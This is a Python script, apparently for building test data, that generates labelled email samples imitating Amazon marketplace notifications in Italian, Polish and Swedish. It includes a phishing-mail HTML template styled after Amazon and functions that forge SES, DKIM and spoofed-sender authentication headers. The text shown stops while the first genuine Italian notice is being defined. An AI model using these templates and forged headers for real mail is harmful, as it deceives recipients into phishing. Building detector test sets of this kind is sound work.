#!/usr/bin/env python3
"""Regenerate blind batch v3: Italian (amazon.it), Polish (amazon.pl), Swedish (amazon.se).

Writes mail/v3001.eml ... and labels.json next to this script.
Deterministic: fixed random seed, fixed dates.
"""
import base64
import datetime
import html as H
import json
import os
import quopri
import random
import re
from urllib.parse import quote

from email.charset import Charset
from email.generator import BytesGenerator
from email.header import Header
from email.mime.base import MIMEBase
from email.mime.multipart import MIMEMultipart
from email.mime.nonmultipart import MIMENonMultipart
from email import policy as _policy
from email.utils import format_datetime, formataddr

HERE = os.path.dirname(os.path.abspath(__file__))
MAILDIR = os.path.join(HERE, "mail")
PREFIX = "v3"
START = 1
rnd = random.Random(3303)

# ----------------------------------------------------------------- random bits
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def rid(n, alphabet=ALNUM):
    return "".join(rnd.choice(alphabet) for _ in range(n))


def hexs(n):
    return rid(n, "0123456789abcdef")


def order_no(prefix=None):
    p = prefix or rnd.choice(["402", "403", "404", "405", "406", "407", "028", "171", "302", "303", "305", "306"])
    return "%s-%07d-%07d" % (p, rnd.randint(0, 9999999), rnd.randint(0, 9999999))


_base_day = datetime.datetime(2024, 9, 2, 8, 0, tzinfo=datetime.timezone.utc)


def when(day_offset=None):
    d = rnd.randint(0, 330) if day_offset is None else day_offset
    return _base_day + datetime.timedelta(days=d, seconds=rnd.randint(0, 14 * 3600))


def ses_msgid():
    return "<%s-%s-%s-%s-%s-%s-000000@eu-west-1.amazonses.com>" % (
        "0102019" + hexs(9), hexs(8), hexs(4), hexs(4), hexs(4), hexs(12))


def boundary(style):
    if style == "amazon":
        return "----=_Part_%d_%d.%d" % (rnd.randint(10 ** 6, 10 ** 8), rnd.randint(10 ** 8, 2 * 10 ** 9),
                                        rnd.randint(1700000000000, 1740000000000))
    if style == "gmail":
        return "000000000000" + hexs(12)
    if style == "outlook":
        return "_000_%s%s_" % (rid(20), rid(12))
    if style == "mailer":
        return "----=_NextPart_000_%04X_01DB%04X.%08X" % (rnd.randint(0, 65535), rnd.randint(0, 65535), rnd.randint(0, 2 ** 32 - 1))
    return "=_" + hexs(32)


# ----------------------------------------------------------------- amazon links
def amz_r(mp, target, ref="pe_%d_%d"):
    if "%d" in ref:
        ref = ref % (rnd.randint(1000000, 9999999), rnd.randint(100000000, 999999999))
    return ("https://www.%s/gp/r.html?C=%s&K=%s&M=urn:rtn:msg:2024%s%s&R=%s&T=C&U=%s&H=%s&ref_=%s"
            % (mp, rid(13), rid(13), rid(10, "0123456789"), hexs(24), rid(13),
               quote(target, safe=""), rid(28), ref))


def pixel(mp):
    return ("https://www.%s/gp/r.html?C=%s&M=urn:rtn:msg:2024%s&R=%s&T=O&U=%s&H=%s"
            % (mp, rid(13), hexs(20), rid(12),
               quote("https://images-eu.ssl-images-amazon.com/images/G/01/nav/transp.gif", safe=""), rid(28)))


# ----------------------------------------------------------------- mini markup
# Paragraph strings may contain [visible text](href).  In HTML -> <a>, in text -> "text (href)"
LINK = re.compile(r"\[([^\]]+)\]\(([^)]+)\)")


def to_html(s, style=""):
    out, pos = [], 0
    for m in LINK.finditer(s):
        out.append(H.escape(s[pos:m.start()], quote=False))
        st = ' style="%s"' % style if style else ""
        out.append('<a href="%s"%s>%s</a>' % (H.escape(m.group(2)), st, H.escape(m.group(1), quote=False)))
        pos = m.end()
    out.append(H.escape(s[pos:], quote=False))
    return "".join(out).replace("\n", "<br />\n")


def to_text(s, mode="paren"):
    def rep(m):
        if m.group(1).startswith("http") or mode == "bare":
            return m.group(1) if m.group(1).startswith("http") else "%s: %s" % (m.group(1), m.group(2))
        return "%s (%s)" % (m.group(1), m.group(2))
    return LINK.sub(rep, s)


# ----------------------------------------------------------------- Amazon-like templates
CARD_CSS = """body { width:100% !important; height:100% !important; margin:0; padding:0; }
table, table td { border-collapse:collapse !important; }
body, table, td, a {  -webkit-text-size-adjust:100%; -ms-text-size-adjust:100%; }
.ReadMsgBody { width:100%; } .ExternalClass { width:100%; }
td { font-family:Arial, sans-serif; }
.emailBody { width: 375px; background-color: #fafafa; }
.brandImage { width: 130px; }
.card { background-color: #ffffff; width: 100%; padding-left: 20px; padding-right: 21px; padding-top: 30px; padding-bottom: 30px; border: 0; margin-bottom: 5px; }
.greetingTable { font-size: 18px; font-weight: bold; line-height: 24px; color: #002E36; margin-bottom: 4px; width: 100%; }
.informationTable { font-size: 18px; line-height: 24px; color: #002E36; width: 100%; }
.orderIdTable { font-size: 18px; line-height: 18px; color: #879596; margin-bottom: 18px; }
.itemTitle { padding-left: 26px; padding-right: 22px; }
.emailClosing { font-size: 9px; line-height: 15px; color: #868686; }
@media screen and (min-width: 651px) {
 .emailBody { width: 640px !important; background-color: #fafafa; }
 .greetingTable { font-size: 16px !important; line-height: 18px !important; }
 .informationTable { font-size: 16px !important; line-height: 20px !important; }
}"""

TD = 'style="border-collapse: collapse !important; -webkit-text-size-adjust: 100%; -ms-text-size-adjust: 100%; font-family: Arial, sans-serif"'


def card_html(n):
    """Modern 'card' Amazon layout (nested tables, inline styles)."""
    mp, link = n["mp"], n["link"]
    rows = []
    rows.append('<!DOCTYPE html>\n<html>\n <head>\n  <meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />\n'
                '  <meta name="format-detection" content="telephone=no" />\n'
                '  <meta name="viewport" content="width=device-width, initial-scale=1.0; user-scalable=no;" />\n'
                '  <style>\n%s\n  </style>\n </head>\n' % CARD_CSS)
    rows.append(' <body style="width: 100%% !important; height: 100%% !important; margin: 0; padding: 0">'
                '<img width="1" height="1" src="%s" />\n' % H.escape(n.get("pixel") or pixel(mp)))
    if n.get("preheader"):
        rows.append('  <div style="display:none; max-height:0; overflow:hidden">%s</div>\n' % H.escape(n["preheader"]))
    rows.append('  <table id="OutlookWrapper" style="width: 100%%; border-collapse: collapse !important">\n   <tbody><tr>\n'
                '    <td align="center" %s>\n     <table class="emailBody" style="width: 375px; background-color: rgb(250, 250, 250)">\n'
                '      <tbody><tr><td class="emailBodyTD" style="width: 100%%; padding: 23px 18px 21px 17px; font-family: Arial, sans-serif">\n' % TD)
    rows.append('       <a href="%s">\n        <table class="brandTable" style="margin-bottom: 20px; width: 100%%; min-width: 338px"><tbody><tr>\n'
                '         <td align="center" %s><img src="https://images-eu.ssl-images-amazon.com/images/G/29/gno/images/general/navAmazonLogoFooter.gif" '
                'alt="%s" title="%s" class="brandImage" border="0" width="130" style="width: 130px" /></td>\n'
                '        </tr></tbody></table></a>\n' % (H.escape(link("https://www.%s/?ref_=pe_home" % mp)), TD, n.get("logo_alt", "Amazon"), n.get("logo_alt", "Amazon")))
    rows.append('       <table class="card grayTopBorder" style="background-color: rgb(255, 255, 255); width: 100%; border-top: 2px solid rgb(213, 219, 219)">\n'
                '        <tbody><tr><td class="cardTD" align="left" style="width: 100%; padding: 30px 20px 30px 20px; font-family: Arial, sans-serif">\n')
    if n.get("title"):
        rows.append('         <table class="greetingTable" style="font-size: 20px; font-weight: bold; color: rgb(0, 46, 54); width: 100%%"><tbody><tr><td %s><span>%s</span></td></tr></tbody></table>\n' % (TD, H.escape(n["title"])))
    rows.append('         <table class="greetingTable" style="font-size: 18px; font-weight: bold; line-height: 24px; color: rgb(0, 46, 54); margin-bottom: 4px; width: 100%%"><tbody><tr>\n'
                '          <td %s><span>%s</span> </td></tr></tbody></table>\n' % (TD, H.escape(n["greeting"])))
    rows.append('         <table class="informationTable" style="font-size: 18px; line-height: 24px; color: rgb(0, 46, 54); width: 100%"><tbody>\n')
    for p in n["paras"]:
        rows.append('          <tr><td style="padding-bottom: 6px; font-family: Arial, sans-serif"><span>%s</span></td></tr>\n' % to_html(p, "color: #0066c0"))
    rows.append('         </tbody></table>\n')
    if n.get("button"):
        bt, bh = n["button"]
        rows.append('         <table style="margin-top: 14px"><tbody><tr><td align="center" style="background-color: #FFD814; border-radius: 8px; padding: 10px 22px; font-family: Arial, sans-serif">'
                    '<a href="%s" style="color: #0F1111; text-decoration: none; font-size: 15px">%s</a></td></tr></tbody></table>\n' % (H.escape(bh), H.escape(bt)))
    rows.append('        </td></tr></tbody>\n       </table>\n')
    if n.get("items"):
        rows.append('       <table class="card" style="background-color: rgb(255, 255, 255); width: 100%"><tbody><tr><td class="cardTD" style="padding: 30px 20px; font-family: Arial, sans-serif">\n')
        if n.get("items_heading"):
            rows.append('         <table class="greetingTable" style="font-size: 18px; font-weight: bold; color: rgb(0, 46, 54)"><tbody><tr><td %s>%s</td></tr></tbody></table>\n' % (TD, H.escape(n["items_heading"])))
        rows.append('         <table class="orderIdTable" style="font-size: 16px; line-height: 18px; color: rgb(135, 149, 150); margin-bottom: 18px"><tbody><tr><td %s>'
                    '<a href="%s" style="text-decoration: none; color: #879596">%s</a></td></tr></tbody></table>\n'
                    % (TD, H.escape(n["order_href"]), H.escape(n["order_label"])))
        rows.append('         <table class="orderDetailsTable" style="font-size: 16px; line-height: 20px; margin: 0 auto"><tbody>\n')
        for it in n["items"]:
            rows.append('          <tr><td class="itemImage" style="vertical-align: top"><img src="https://m.media-amazon.com/images/I/%s._SS142_.jpg" width="84" alt="" /></td>\n'
                        '           <td class="itemTitle" style="padding-left: 26px; padding-right: 22px; font-family: Arial, sans-serif">'
                        '<a href="%s" style="color: #008296; text-decoration: none">%s</a><br />\n'
                        '            <span style="color: #565959; font-size: 14px">%s</span></td></tr>\n'
                        % (rid(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"),
                           H.escape(link("https://www.%s/dp/B0%s" % (mp, rid(8)))), H.escape(it[0], quote=False), H.escape(it[1], quote=False)))
        rows.append('         </tbody></table>\n')
        for p in n.get("after", []):
            rows.append('         <p style="font-size: 15px; color: #002E36; font-family: Arial, sans-serif">%s</p>\n' % to_html(p, "color: #0066c0"))
        rows.append('        </td></tr></tbody></table>\n')
    rows.append('       <table class="emailClosing" style="font-size: 11px; line-height: 15px; color: rgb(134, 134, 134); width: 100%"><tbody>\n')
    for f in n["footer"]:
        rows.append('        <tr><td style="padding-top: 8px; font-family: Arial, sans-serif">%s</td></tr>\n' % to_html(f, "color: #868686"))
    rows.append('       </tbody></table>\n      </td></tr></tbody>\n     </table>\n    </td>\n   </tr></tbody>\n  </table>\n </body>\n</html>\n')
    return "".join(rows)


def classic_html(n):
    """Older 'classic' Amazon layout with navigation header and h2 title."""
    mp, link = n["mp"], n["link"]
    nav = n["nav"]
    r = ['<html xmlns="https://www.w3.org/1999/xhtml">\n <head>\n  <meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />\n  <title></title>\n'
         '  <style type="text/css">\n   body { font: 13px Arial, sans-serif; color: #333; }\n   #container { width: 640px; }\n'
         '   .title h2 { color: #CC6600; font: 20px Arial, sans-serif; margin: 0; }\n   .heading { color: #CC6600; font: bold 14px Arial, sans-serif; }\n'
         '   .navigation a { color: #004B91; text-decoration: none; font-size: 12px; }\n   #closing, #legal { font-size: 11px; color: #666; }\n  </style>\n </head>\n']
    r.append(' <body><img width="1" height="1" src="%s" />\n  <table id="container" cellpadding="0"><tbody><tr><td class="frame">\n' % H.escape(n.get("pixel") or pixel(mp)))
    r.append('   <table id="main" cellpadding="0"><tbody>\n    <tr><td>\n     <table id="header" cellpadding="0"><tbody>\n'
             '      <tr><td rowspan="2" class="logo"><a href="%s"><img src="https://images-eu.ssl-images-amazon.com/images/G/29/x-locale/common/transparent-pixel._V192234675_.gif" alt="%s" width="115" /></a></td>\n'
             '       <td class="navigation"><table align="right"><tbody><tr>\n' % (H.escape(link("https://www.%s/" % mp)), H.escape(nav[2])))
    r.append('        <td><a href="%s">%s</a></td><td><span>&nbsp;&nbsp;|&nbsp;&nbsp;</span></td>\n'
             '        <td><a href="%s">%s</a></td><td><span>&nbsp;&nbsp;|&nbsp;&nbsp;</span></td>\n'
             '        <td><a class="last" href="%s">%s</a></td>\n' % (
                 H.escape(link("https://www.%s/gp/css/order-history" % mp)), H.escape(nav[0]),
                 H.escape(link("https://www.%s/gp/css/homepage.html" % mp)), H.escape(nav[1]),
                 H.escape(link("https://www.%s/" % mp)), H.escape(nav[2])))
    r.append('       </tr></tbody></table></td></tr>\n      <tr><td class="title"><h2>%s</h2> %s <a href="%s">%s</a></td></tr>\n     </tbody></table>\n    </td></tr>\n'
             % (H.escape(n["title"]), H.escape(n["order_word"]), H.escape(n["order_href"]), H.escape(n["order"])))
    r.append('    <tr><td>\n     <table id="summary" cellpadding="0"><tbody><tr><td><span class="heading">%s</span>\n' % H.escape(n["greeting"]))
    for p in n["paras"]:
        r.append('      <p>%s</p>\n' % to_html(p))
    r.append('     </td></tr></tbody></table>\n    </td></tr>\n')
    if n.get("items"):
        r.append('    <tr><td>\n     <table id="orderDetails" cellpadding="0" width="100%%"><tbody>\n      <tr><td colspan="2" class="heading" style="border-bottom: 1px solid #ccc">%s</td></tr>\n' % H.escape(n["items_heading"]))
        for it in n["items"]:
            r.append('      <tr><td class="name" style="padding: 8px 0"><a href="%s">%s</a><br /><span style="color:#666">%s</span></td>\n'
                     '       <td class="price" align="right"><strong>%s</strong></td></tr>\n' % (
                         H.escape(link("https://www.%s/dp/B0%s" % (mp, rid(8)))), H.escape(it[0], quote=False), H.escape(it[1], quote=False), H.escape(it[2], quote=False)))
        r.append('     </tbody></table>\n    </td></tr>\n')
    r.append('    <tr><td>\n     <table id="closing" cellpadding="0"><tbody><tr><td>\n')
    for p in n.get("after", []):
        r.append('      <p>%s</p>\n' % to_html(p))
    r.append('      <p><br />%s<br /><span class="signature"><strong>%s</strong></span></p>\n' % (H.escape(n["signoff"]), H.escape(nav[2])))
    r.append('     </td></tr></tbody></table>\n    </td></tr>\n    <tr><td>\n     <table id="legal" cellpadding="0"><tbody>\n')
    for f in n["footer"]:
        r.append('      <tr><td style="padding-top: 6px">%s</td></tr>\n' % to_html(f))
    r.append('     </tbody></table>\n    </td></tr>\n   </tbody></table>\n  </td></tr></tbody></table>\n </body>\n</html>\n')
    return "".join(r)


def amazon_text(n):
    """Plain text rendering in the style of the real Amazon text/plain parts."""
    bar = "_" * 68
    t = [n.get("text_title") or n["nav"][2], bar, "", n["greeting"], ""]
    for p in n["paras"]:
        t += [to_text(p), ""]
    if n.get("items"):
        t += [n["items_heading"], "-" * len(n["items_heading"])]
        for it in n["items"]:
            t += [it[0], "  " + it[1], "  " + it[2], ""]
        t += [n["order_label"], "%s:" % n["nav"][0], n["order_href"], ""]
    for p in n.get("after", []):
        t += [to_text(p), ""]
    if n.get("signoff"):
        t += [n["signoff"], n["nav"][2], ""]
    t += [bar, ""]
    for f in n["footer"]:
        t += [to_text(f), ""]
    return "\n".join(t).rstrip() + "\n"


# ----------------------------------------------------------------- MIME helpers
def text_part(text, subtype, charset, cte):
    p = MIMENonMultipart("text", subtype, charset=charset)
    if subtype == "html" and charset.lower() != "utf-8":
        text = re.sub(r'charset="?utf-8', lambda m: m.group(0)[:-5] + charset.upper(), text, flags=re.I)
    raw = text.encode(charset, "xmlcharrefreplace" if subtype == "html" else "strict")
    if cte == "base64":
        payload = base64.encodebytes(raw).decode("ascii")
    elif cte == "quoted-printable":
        payload = quopri.encodestring(raw).decode("ascii")
    elif cte in ("8bit", "7bit"):
        if cte == "7bit":
            raw.decode("ascii")
        payload = raw.decode("ascii", "surrogateescape")
    else:
        raise ValueError(cte)
    p.set_payload(payload)
    p["Content-Transfer-Encoding"] = cte
    del p["MIME-Version"]
    return p


def hdr(value, charset="utf-8"):
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        return Header(fit(value, charset), charset).encode(maxlinelen=76)


def addr(name, email_addr, charset="utf-8"):
    if not name:
        return email_addr
    try:
        name.encode("ascii")
        return formataddr((name, email_addr))
    except UnicodeEncodeError:
        return formataddr((name, email_addr), charset=charset)


def build(m):
    fmt = m["fmt"]
    cs = m.get("charset", "utf-8")
    cte = m.get("cte", "quoted-printable")
    if fmt == "text":
        body = text_part(m["text"], "plain", cs, cte)
    elif fmt == "html":
        body = text_part(m["html"], "html", cs, cte)
    else:
        body = MIMEMultipart("alternative", boundary=boundary(m.get("bstyle", "amazon")))
        body.attach(text_part(m["text"], "plain", cs, cte))
        body.attach(text_part(m["html"], "html", m.get("charset_html", cs), m.get("cte_html", cte)))
        del body["MIME-Version"]
    if m.get("attach"):
        outer = MIMEMultipart("mixed", boundary=boundary(m.get("bstyle", "x")))
        del outer["MIME-Version"]
        outer.attach(body)
        for fname, ctype, content in m["attach"]:
            maintype, subtype = ctype.split("/")
            a = MIMEBase(maintype, subtype, charset="utf-8", name=fname)
            a.set_payload(base64.encodebytes(content.encode("utf-8")).decode("ascii"))
            a["Content-Transfer-Encoding"] = "base64"
            a["Content-Disposition"] = 'attachment; filename="%s"' % fname
            del a["MIME-Version"]
            outer.attach(a)
        body = outer
    # move the body's own headers to the end, put envelope headers in front
    own = [(k, v) for k, v in body.items()]
    for k in set(k for k, _ in own):
        del body[k]
    hcs = m.get("header_charset", "utf-8")
    for k, v in m.get("pre_headers", []):
        body[k] = v
    body["Date"] = format_datetime(m["date"])
    body["From"] = addr(m["from"][0], m["from"][1], hcs)
    if m.get("reply_to"):
        body["Reply-To"] = m["reply_to"]
    body["To"] = m["to"]
    body["Message-ID"] = m["msgid"]
    body["Subject"] = hdr(m["subject"], hcs)
    body["MIME-Version"] = "1.0"
    for k, v in own:
        if k != "MIME-Version":
            body[k] = v
    for k, v in m.get("post_headers", []):
        body[k] = v
    return body


def write(msg, path):
    with open(path, "wb") as f:
        BytesGenerator(f, mangle_from_=False, policy=_policy.compat32.clone(max_line_length=None)).flatten(msg)


# ----------------------------------------------------------------- header sets
def amazon_headers(mp, rcpt_mx, date, auth, style="generic"):
    """Received/Return-Path/Auth headers of a genuine Amazon SES mail."""
    ip = "54.240.%d.%d" % (rnd.choice([3, 4, 7, 27, 48, 51]), rnd.randint(2, 250))
    host = "a%s.smtp-out.eu-west-1.amazonses.com" % ip.split(".", 2)[2].replace(".", "-")
    bounce = "%s%s-%s@bounces.%s" % (date.strftime("%Y%m%d%H%M%S"), hexs(24), hexs(8), mp)
    pre = [("Return-Path", "<%s>" % bounce),
           ("Received", "from %s (%s [%s])\n\tby %s with ESMTPS id %s\n\tfor <%s>; %s"
            % (host, host, ip, rcpt_mx, rid(12), "%RCPT%", format_datetime(date + datetime.timedelta(seconds=3))))]
    post = [("X-AMAZON-MAIL-RELAY-TYPE", "notification"),
            ("Bounces-to", bounce),
            ("X-AMAZON-RTE-VERSION", "2.0"),
            ("Feedback-ID", "1.eu-west-1.%s=:AmazonSES" % rid(43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"))]
    if auth:
        sel = rid(32, "abcdefghijklmnopqrstuvwxyz234567")
        if style == "ms":
            a = ("spf=pass (sender IP is %s) smtp.mailfrom=bounces.%s; dkim=pass (signature was verified) header.d=%s;dmarc=pass action=none header.from=%s;compauth=pass reason=100"
                 % (ip, mp, mp, mp))
        else:
            a = ("%s;\n\tdkim=pass header.d=%s header.s=%s header.b=%s;\n\tdkim=pass header.d=amazonses.com header.s=shh3fegwg5fppqsuzphvschd53n6ihuv header.b=%s;\n\tspf=pass smtp.mailfrom=bounces.%s;\n\tdmarc=pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from=%s"
                 % (rcpt_mx, mp, sel, rid(8), rid(8), mp, mp))
        pre.append(("Authentication-Results", a))
        pre.append(("DKIM-Signature", "v=1; a=rsa-sha256; q=dns/txt; c=relaxed/simple;\n\ts=%s; d=%s; t=%d;\n\th=Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type;\n\tbh=%s=;\n\tb=%s"
                    % (sel, mp, int(date.timestamp()), rid(43), rid(64, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"))))
    return pre, post


def freemail_headers(provider, sender, rcpt_mx, date, auth=True):
    ips = {"gmail.com": ("mail-sor-f%d.google.com" % rnd.randint(41, 69), "209.85.220.%d" % rnd.randint(41, 69)),
           "outlook.com": ("EUR05-DB8-obe.outbound.protection.outlook.com", "40.92.%d.%d" % (rnd.randint(1, 99), rnd.randint(2, 250))),
           "hotmail.com": ("EUR04-HE1-obe.outbound.protection.outlook.com", "40.92.%d.%d" % (rnd.randint(1, 99), rnd.randint(2, 250))),
           "yahoo.com": ("sonic%d-%d.consmr.mail.ir2.yahoo.com" % (rnd.randint(300, 330), rnd.randint(10, 40)), "77.238.%d.%d" % (rnd.randint(176, 179), rnd.randint(2, 250))),
           }
    h, ip = ips[provider]
    pre = [("Return-Path", "<%s>" % sender),
           ("Received", "from %s (%s. [%s])\n\tby %s with SMTPS id %s\n\tfor <%s>; %s"
            % (h, h, ip, rcpt_mx, rid(12), "%RCPT%", format_datetime(date + datetime.timedelta(seconds=2))))]
    if auth:
        pre.append(("Authentication-Results", "%s;\n\tdkim=pass header.d=%s;\n\tspf=pass smtp.mailfrom=%s;\n\tdmarc=pass (p=NONE sp=QUARANTINE dis=NONE) header.from=%s"
                    % (rcpt_mx, provider, provider, provider)))
    return pre


def vps_headers(domain, rcpt_mx, date, auth=None, helo=None):
    ip = "%d.%d.%d.%d" % (rnd.choice([45, 91, 103, 141, 176, 185, 193, 194]), rnd.randint(1, 254), rnd.randint(1, 254), rnd.randint(2, 254))
    helo = helo or "mail.%s" % domain
    pre = [("Return-Path", "<bounce-%s@%s>" % (hexs(8), domain)),
           ("Received", "from %s (unknown [%s])\n\tby %s with ESMTP id %s\n\tfor <%s>; %s"
            % (helo, ip, rcpt_mx, rid(12), "%RCPT%", format_datetime(date + datetime.timedelta(seconds=5))))]
    if auth == "own":
        pre.append(("Authentication-Results", "%s;\n\tdkim=pass header.d=%s header.s=default;\n\tspf=pass smtp.mailfrom=%s;\n\tdmarc=pass (p=NONE) header.from=%s"
                    % (rcpt_mx, domain, domain, domain)))
    elif auth and auth.startswith("spoof:"):
        fake = auth.split(":", 1)[1]
        pre.append(("Authentication-Results", "%s;\n\tdkim=none;\n\tspf=fail (domain of %s does not designate %s as permitted sender) smtp.mailfrom=%s;\n\tdmarc=fail (p=QUARANTINE sp=QUARANTINE dis=QUARANTINE) header.from=%s"
                    % (rcpt_mx, domain, ip, domain, fake)))
    elif auth == "none":
        pre.append(("Authentication-Results", "%s;\n\tdkim=none;\n\tspf=softfail smtp.mailfrom=%s;\n\tdmarc=none header.from=%s" % (rcpt_mx, domain, domain)))
    return pre


def phish_html(brand, title, paras, button=None, footer=(), color="#232f3e", crude=False):
    """HTML of a phishing mail: polished (Amazon-ish colours) or crude."""
    if crude:
        r = ['<html><body style="font-family: Verdana; font-size: 14px">\n<p><b><font color="red" size="5">%s</font></b></p>\n' % H.escape(title)]
        for p in paras:
            r.append("<p>%s</p>\n" % to_html(p))
        if button:
            r.append('<p><a href="%s"><b><u>%s</u></b></a></p>\n' % (H.escape(button[1]), H.escape(button[0])))
        for f in footer:
            r.append('<p style="font-size:10px; color:#999">%s</p>\n' % to_html(f))
        r.append("</body></html>\n")
        return "".join(r)
    r = ['<!DOCTYPE html>\n<html>\n<head><meta charset="utf-8"><title>%s</title></head>\n' % H.escape(brand),
         '<body style="margin:0; background:#eaeded; font-family: Arial, Helvetica, sans-serif">\n'
         '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">\n'
         '<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">\n',
         '<tr><td style="background:%s; padding:14px 24px"><img src="https://upload.wikimedia.org/wikipedia/commons/a/a9/Amazon_logo.svg" width="110" alt="%s" style="filter: invert(1)"></td></tr>\n' % (color, H.escape(brand)),
         '<tr><td style="padding:24px"><h2 style="font-weight:normal; color:#111; font-size:22px">%s</h2>\n' % H.escape(title)]
    for p in paras:
        r.append('<p style="font-size:14px; color:#111; line-height:20px">%s</p>\n' % to_html(p, "color:#007185"))
    if button:
        r.append('<table cellpadding="0" cellspacing="0"><tr><td style="background:#ffd814; border:1px solid #fcd200; border-radius:20px; padding:10px 28px">'
                 '<a href="%s" style="color:#0f1111; text-decoration:none; font-size:14px">%s</a></td></tr></table>\n' % (H.escape(button[1]), H.escape(button[0])))
    r.append('</td></tr>\n<tr><td style="padding:16px 24px; background:#f7f7f7; font-size:11px; color:#666">\n')
    for f in footer:
        r.append("<p>%s</p>\n" % to_html(f, "color:#666"))
    r.append("</td></tr>\n</table>\n</td></tr></table>\n</body>\n</html>\n")
    return "".join(r)


def plain_from_html_paras(title, paras, button=None, footer=()):
    t = [title, ""]
    for p in paras:
        t += [to_text(p), ""]
    if button:
        t += ["%s: %s" % (button[0], button[1]), ""]
    for f in footer:
        t += [to_text(f), ""]
    return "\n".join(t).rstrip() + "\n"


# ----------------------------------------------------------------- legacy charset fallbacks (text/plain only)
FALLBACK = {"\u00a9": "(c)", "\u20ac": "EUR", "\u201e": '"', "\u201d": '"', "\u201c": '"', "\u2013": "-",
            "\u2014": "-", "\u2019": "'", "\u2018": "'", "\u00a0": " ", "\u2022": "*", "\u2026": "...", "\u00b7": "-"}


def fit(text, charset):
    if charset.lower() in ("utf-8", "utf8"):
        return text
    out = []
    for ch in text:
        try:
            ch.encode(charset)
            out.append(ch)
        except UnicodeEncodeError:
            out.append(FALLBACK.get(ch, "?"))
    return "".join(out)


# ----------------------------------------------------------------- spec factories
MAILS = []


def add(**m):
    MAILS.append(m)
    return m


def amazon_notice(L, *, style, fmt, sender, subject, rcpt, paras, items=(), after=(), title=None, auth=False,
                  cte="quoted-printable", cte_html=None, charset="utf-8", order=None, items_heading=None,
                  button=None, preheader=None, authstyle="generic", name_sender=None, reply_to=True,
                  link=None, date=None, text_title=None):
    """Return a build() spec for a mail laid out like a genuine Amazon notification."""
    mp = L["mp"]
    link = link or (lambda target: amz_r(mp, target))
    date = date or when()
    its = []
    for t, q, price, seller in items:
        its.append((t, "%s: %s \u00b7 %s: %s" % (L["qty"], q, L["sold"], seller), price))
    n = dict(mp=mp, link=link, nav=L["nav"], greeting=rcpt[2], paras=list(paras), items=its, after=list(after),
             title=title, order=order or "", order_word=L["order_word"],
             order_label="%s %s" % (L["order_word"], order) if order else "",
             order_href=link("https://www.%s/gp/your-account/order-details?orderID=%s" % (mp, order)) if order else link("https://www.%s/gp/css/order-history" % mp),
             items_heading=items_heading or L["items_heading"], footer=L["footer"], signoff=L["signoff"],
             button=button, preheader=preheader, text_title=text_title)
    html = card_html(n) if style == "card" else classic_html(n)
    text = amazon_text(n)
    pre, post = amazon_headers(mp, rcpt[3], date, auth, authstyle)
    return dict(fmt=fmt, text=fit(text, charset), html=html, cte=cte, cte_html=cte_html or cte, charset=charset,
                date=date, from_=(name_sender or L["brand"], sender), to=addr(rcpt[0], rcpt[1]), rcpt=rcpt[1],
                reply_to=("no-reply@%s" % mp) if reply_to else None, msgid=ses_msgid(), subject=subject,
                pre_headers=pre, post_headers=post, bstyle="amazon")


def label(spec, kind, lang, cause, states_reason, marketplace, note):
    spec.update(kind=kind, language=lang, cause=cause, states_reason=states_reason, marketplace=marketplace, note=note)
    return add(**spec)


def other(*, fmt, sender, rcpt, subject, text=None, html=None, cte="quoted-printable", cte_html=None, charset="utf-8",
          pre=(), post=(), reply_to=None, msgid=None, bstyle="x", attach=None, date=None, header_charset="utf-8",
          charset_html=None):
    date = date or when()
    dom = sender[1].split("@")[1]
    return dict(fmt=fmt, text=fit(text, charset) if text else None, html=html, cte=cte, cte_html=cte_html or cte,
                charset=charset, charset_html=charset_html or charset, date=date, from_=sender,
                to=addr(rcpt[0], rcpt[1]), rcpt=rcpt[1], reply_to=reply_to,
                msgid=msgid or "<%s.%s@%s>" % (hexs(16), rid(8), dom), subject=subject, pre_headers=list(pre),
                post_headers=list(post), bstyle=bstyle, attach=attach, header_charset=header_charset)


# =================================================================== ITALIANO (amazon.it)
IT = dict(
    mp="amazon.it", brand="Amazon.it", nav=["I miei ordini", "Il mio account", "Amazon.it"], order_word="Ordine n.",
    items_heading="Articoli annullati", qty="Quantità", sold="Venduto da", signoff="Speriamo di rivederti presto.",
    footer=[
        "Amazon.it non ti chiederà mai di fornire la tua password, i dati completi della carta di credito o le coordinate bancarie tramite e-mail, SMS o telefono.",
        "Se il numero della tua carta è cambiato o la carta è scaduta, aggiorna i dati di pagamento in [Il mio account](https://www.amazon.it/cpe/yourpayments/wallet).",
        "Hai ricevuto un'e-mail sospetta che sembra inviata da Amazon? [Segnalala qui](https://www.amazon.it/gp/help/customer/display.html?nodeId=GDS2QRWFNBSB3T6C).",
        "Per maggiori informazioni visita le [pagine di Aiuto](https://www.amazon.it/gp/help/customer/display.html?nodeId=508510).",
        "Questa e-mail è stata inviata da un indirizzo di sola notifica che non accetta e-mail in arrivo. Non rispondere a questo messaggio.",
        "© 2024 Amazon.com, Inc. o le sue affiliate. Tutti i diritti riservati. Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Lussemburgo.",
    ])
R_IT = [
    ("Giulia Romano", "giulia.romano@libero.it", "Gentile Giulia,", "smtp-in.libero.it"),
    ("Marco Bianchi", "marco.bianchi84@gmail.com", "Gentile Marco,", "mx.google.com"),
    ("Francesca Greco", "f.greco@tiscali.it", "Gentile Francesca,", "mx.tiscali.it"),
    ("Luca Esposito", "luca.esposito@virgilio.it", "Gentile Luca,", "mx.virgilio.it"),
    ("Elena Conti", "elena.conti@outlook.it", "Gentile Elena,", "AM0PR02MB5611.eurprd02.prod.outlook.com"),
    ("Davide Marino", "davide.marino@fastwebnet.it", "Gentile Davide,", "mx.fastwebnet.it"),
]

# ---- notices
o = order_no("402")
label(amazon_notice(
    IT, style="card", fmt="alt", sender="order-update@amazon.it", rcpt=R_IT[0], auth=True, cte="quoted-printable", order=o,
